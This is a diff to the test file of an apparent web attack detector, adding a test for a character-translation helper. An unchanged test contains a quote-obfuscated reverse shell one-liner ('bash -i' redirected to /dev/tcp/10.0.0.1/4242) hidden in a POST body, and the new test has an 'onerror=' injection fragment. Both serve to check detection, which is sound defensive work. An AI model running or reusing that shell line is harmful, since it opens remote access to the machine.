@@ -9,7 +9,7 @@ import pytest
 
 from node.detectors import MODULES
 from node.engine import Engine
-from node.rules import searchable
+from node.rules import Translation, searchable
 from node.types import AttackType, Request
 
 # Shapes the rules use: boundaries before words, before groups of words, groups followed
@@ -100,3 +100,12 @@ def test_a_command_folded_in_a_long_text_is_found() -> None:
     value = page + "\nb'a'sh -i >& /d'e'v/t'c'p/10.0.0.1/4242 0>&1\n" + page
     hits = Engine().scan(Request("POST", "/", (("Content-Type", "text/plain"),), value.encode()))
     assert AttackType.RCE in {hit.type for hit in hits}
+
+
+def test_translation_touches_only_texts_holding_its_characters() -> None:
+    quotes = Translation({ord("\u00a2"): '"', ord("\u00a7"): "'"})
+    plain = "caf\u00e9 au lait"  # non-ASCII, nothing to translate
+    assert quotes(plain) is plain
+    assert quotes("x\u00a2 onerror=\u00a7y") == "x\" onerror='y"
+    with pytest.raises(ValueError, match="non-ASCII"):
+        Translation({ord("a"): "b"})
